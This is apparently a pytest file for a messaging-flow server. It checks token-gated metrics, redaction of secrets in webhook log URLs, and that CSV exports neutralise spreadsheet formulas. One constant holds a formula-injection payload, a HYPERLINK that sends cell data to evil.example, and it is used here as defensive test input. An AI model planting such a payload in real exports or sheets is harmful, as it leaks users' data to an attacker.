"""What the server hands out: /metrics only with its token, webhook logs without the secrets in
their URLs, result exports that open in a spreadsheet as text, never as formulas."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from sutra.config import ServerSettings
from sutra.flows import parse_flow_file
from sutra.store import models as m
from sutra.testing.openai_server import OpenAIStubServer
from tests.editor.conftest import Site, open_site

API_TOKEN = "api-token-for-exports"
METRICS_TOKEN = "metrics-token-for-scrapers"
SECRET = "sk-live-do-not-leak-4242"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your prize")'
FLOW = "5ec0e7a1-0000-4000-8000-00000000c5f0"


def uid() -> str:
    return str(uuid.uuid4())


def survey_flow(hook_url: str) -> dict[str, Any]:
    """Asks a question, keeps the answer as ``answer``, calls a webhook, says thanks."""
    ask, wait, call, thanks = uid(), uid(), uid(), uid()
    reply, ok, failed = uid(), uid(), uid()
    to_call, to_thanks, to_end = uid(), uid(), uid()
    return {
        "uuid": FLOW,
        "name": "Survey",
        "spec_version": "13.2.0",
        "language": "base",
        "type": "messaging",
        "expire_after_minutes": 60,
        "localization": {},
        "nodes": [
            {
                "uuid": ask,
                "actions": [{"uuid": uid(), "type": "send_msg", "text": "Your favourite drink?"}],
                "exits": [{"uuid": uid(), "destination_uuid": wait}],
            },
            {
                "uuid": wait,
                "actions": [],
                "router": {
                    "type": "switch",
                    "operand": "@input.text",
                    "wait": {"type": "msg"},
                    "result_name": "answer",
                    "cases": [],
                    "categories": [{"uuid": reply, "name": "All Responses", "exit_uuid": to_call}],
                    "default_category_uuid": reply,
                },
                "exits": [{"uuid": to_call, "destination_uuid": call}],
            },
            {
                "uuid": call,
                "actions": [
                    {
                        "uuid": uid(),
                        "type": "call_webhook",
                        "method": "GET",
                        "url": hook_url,
                        "headers": {},
                        "body": "",
                        "result_name": "hook",
                    }
                ],
                "router": {
                    "type": "switch",
                    "operand": "@webhook.status",
                    "cases": [
                        {
                            "uuid": uid(),
                            "type": "has_number_between",
                            "arguments": ["200", "299"],
                            "category_uuid": ok,
                        }
                    ],
                    "categories": [
                        {"uuid": ok, "name": "Success", "exit_uuid": to_thanks},
                        {"uuid": failed, "name": "Failure", "exit_uuid": to_end},
                    ],
                    "default_category_uuid": failed,
                },
                "exits": [
                    {"uuid": to_thanks, "destination_uuid": thanks},
                    {"uuid": to_end, "destination_uuid": thanks},
                ],
            },
            {
                "uuid": thanks,
                "actions": [{"uuid": uid(), "type": "send_msg", "text": "Thanks!"}],
                "exits": [{"uuid": uid(), "destination_uuid": None}],
            },
        ],
    }


@pytest.fixture
async def site(tmp_path: Path, stub: OpenAIStubServer, clean_env: None) -> AsyncIterator[Site]:
    settings = ServerSettings(sutra_api_token=API_TOKEN, sutra_metrics_token=METRICS_TOKEN)
    async with open_site(tmp_path / "sutra.db", stub, settings) as opened:
        yield opened


async def answer_survey(site: Site, stub: OpenAIStubServer, text: str) -> None:
    hook = f"{stub.base_url}/hook?api_key={SECRET}&q=tea"
    await site.state.repo.import_flow_file(parse_flow_file(survey_flow(hook)), created_by="t")
    await site.start("meera", FLOW)
    await site.wait_for_texts("meera", 1)
    await site.send("meera", text)
    await site.wait_for_texts("meera", 2)


def api(site: Site) -> httpx.AsyncClient:
    client = site.stranger()
    client.headers["Authorization"] = f"Bearer {API_TOKEN}"
    return client


async def test_metrics_need_their_token(site: Site) -> None:
    async with site.stranger() as scraper:
        assert (await scraper.get("/metrics")).status_code == 401
        wrong = await scraper.get("/metrics", headers={"Authorization": "Bearer guess"})
        assert wrong.status_code == 401
        # The API's token is a different key: it does not open the metrics.
        other = await scraper.get("/metrics", headers={"Authorization": f"Bearer {API_TOKEN}"})
        assert other.status_code == 401
        ok = await scraper.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"})
        assert ok.status_code == 200
        assert "sutra_messages_in_total" in ok.text


async def test_metrics_are_off_without_a_token(
    tmp_path: Path, stub: OpenAIStubServer, clean_env: None
) -> None:
    # The test client comes from 127.0.0.1, as a reverse proxy on the machine would: that opens
    # nothing, or the proxy would publish the metrics.
    async with (
        open_site(tmp_path / "sutra.db", stub, signed_in=False) as bare,
        bare.stranger() as scraper,
    ):
        assert (await scraper.get("/metrics")).status_code == 404
        empty = await scraper.get("/metrics", headers={"Authorization": "Bearer "})
        assert empty.status_code == 404


async def test_results_export_opens_formulas_as_text(site: Site, stub: OpenAIStubServer) -> None:
    await answer_survey(site, stub, FORMULA)
    async with api(site) as client:
        exported = await client.get(f"/api/v1/flows/{FLOW}/results", params={"format": "csv"})
        assert exported.status_code == 200
        # JSON is data, not a spreadsheet: it keeps the answer as typed.
        plain = (await client.get(f"/api/v1/flows/{FLOW}/results")).json()["results"]
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    answer = next(row for row in rows if row["key"] == "answer")
    assert answer["value"] == f"'{FORMULA}"
    assert answer["input"] == f"'{FORMULA}"
    assert next(r for r in plain if r["key"] == "answer")["value"] == FORMULA
    # No other cell of the export starts like a formula.
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


async def test_webhook_logs_hide_secrets_in_query_strings(
    site: Site, stub: OpenAIStubServer
) -> None:
    await answer_survey(site, stub, "tea")
    # A row written before URLs were redacted on the way in is shown redacted all the same.
    async with site.state.repo.sessions.begin() as db:
        db.add(
            m.WebhookLog(
                organization_id=site.state.repo.org,
                method="POST",
                url=f"https://hooks.example/old?token={SECRET}&page=2",
                status_code=200,
            )
        )
    async with api(site) as client:
        response = await client.get("/api/v1/webhook-logs")
    assert response.status_code == 200
    assert SECRET not in response.text
    urls = {log["url"] for log in response.json()["results"]}
    assert f"{stub.base_url}/hook?api_key=[redacted]&q=tea" in urls
    assert "https://hooks.example/old?token=[redacted]&page=2" in urls
    # The simulator's view of the contact shows the same log, also without the secret.
    details = await site.http.get("/simulator/api/contact", params={"contact": "meera"})
    assert details.status_code == 200 and details.json()["webhooks"]
    assert SECRET not in details.text
